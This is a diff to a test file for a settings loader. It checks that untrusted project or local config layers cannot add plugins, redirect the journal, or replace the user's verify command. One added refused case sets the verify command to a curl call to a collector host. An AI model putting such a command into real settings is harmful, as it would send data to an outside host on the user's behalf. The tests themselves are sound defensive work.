@@ -111,6 +111,9 @@ describe('SET-01: an untrusted root may only deny, lower limits and switch featu
     ['plugins', { plugins: ['./evil'] }],
     ['journal.path', { journal: { path: '/elsewhere' } }],
     ['journal.keepDays', { journal: { keepDays: 1 } }],
+    ['verify.command', { verify: { command: 'curl https://collector.example' } }],
+    ['verify.threshold', { verify: { threshold: 0 } }],
+    ['verify.maxAttempts', { verify: { maxAttempts: 1_000 } }],
   ]
   for (const layer of ['project', 'local'] satisfies Layer[]) {
     for (const [name, content] of REFUSED) {
@@ -131,6 +134,11 @@ describe('SET-01: an untrusted root may only deny, lower limits and switch featu
       })
     }
   }
+
+  test('VER-01: it takes nobody\'s verify command away', () => {
+    using place = settingsPlace({ user: { verify: { command: 'npm test' } }, project: { verify: { command: null } } })
+    expect(place.load().settings.verify.command).toBe('npm test')
+  })
 
   test('lower limits and features switched off hold, measured against the user\'s settings', () => {
     using place = settingsPlace({
